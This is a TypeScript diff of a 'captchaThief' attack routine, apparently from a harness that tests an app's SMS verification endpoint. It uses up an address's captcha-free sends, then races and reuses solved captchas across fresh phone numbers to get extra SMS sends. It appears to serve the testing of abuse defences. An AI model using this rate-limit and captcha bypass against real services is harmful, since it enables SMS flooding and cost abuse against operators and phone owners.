@@ -19,8 +19,8 @@ export interface CaptchaThiefOptions {
 /** How many requests race with one answered captcha. */
 const RACERS = 10;
 
-/** A number has three sends without a captcha. A busy server refuses with 503, which takes none of them. */
-const SPENDING_ATTEMPTS = 12;
+/** An address has twenty sends without a captcha. A busy server refuses with 503, which takes none of them. */
+const SPENDING_ATTEMPTS = 60;
 
 /**
  * Answers captchas rightly, and then tries to get more from each than one send: by a race, a second use, and one that
@@ -35,20 +35,18 @@ export function captchaThief(stage: Stage, options: CaptchaThiefOptions): Attack
   let stolen = 0;
   let lawful = 0;
 
-  async function send(address: string, captcha: CaptchaAnswer | null, number = numbers++): Promise<ApiAnswer> {
-    const body = { mobile: mobile(number % RACERS), ...captcha };
+  /** To a number of its own, because a second send for a number within the minute is one with the first. */
+  async function send(address: string, captcha: CaptchaAnswer | null): Promise<ApiAnswer> {
+    const body = { mobile: mobile(numbers++), ...captcha };
     const answer = await stage.call(address, '/app/auth/sendSmsCode', { body });
     tally.add(answer);
     return answer;
   }
 
-  /** Uses up what the numbers and the address get without a captcha, so that a send passes with one only. */
+  /** Uses up what the address gets without a captcha, so that a send passes with one only. */
   async function spend(address: string): Promise<void> {
-    for (let index = 0; index < RACERS; index += 1) {
-      const number = numbers++;
-      for (let attempt = 0; attempt < SPENDING_ATTEMPTS; attempt += 1) {
-        if (![202, 503].includes((await send(address, null, number)).status)) break;
-      }
+    for (let attempt = 0; attempt < SPENDING_ATTEMPTS; attempt += 1) {
+      if (![202, 503].includes((await send(address, null)).status)) return;
     }
   }
 
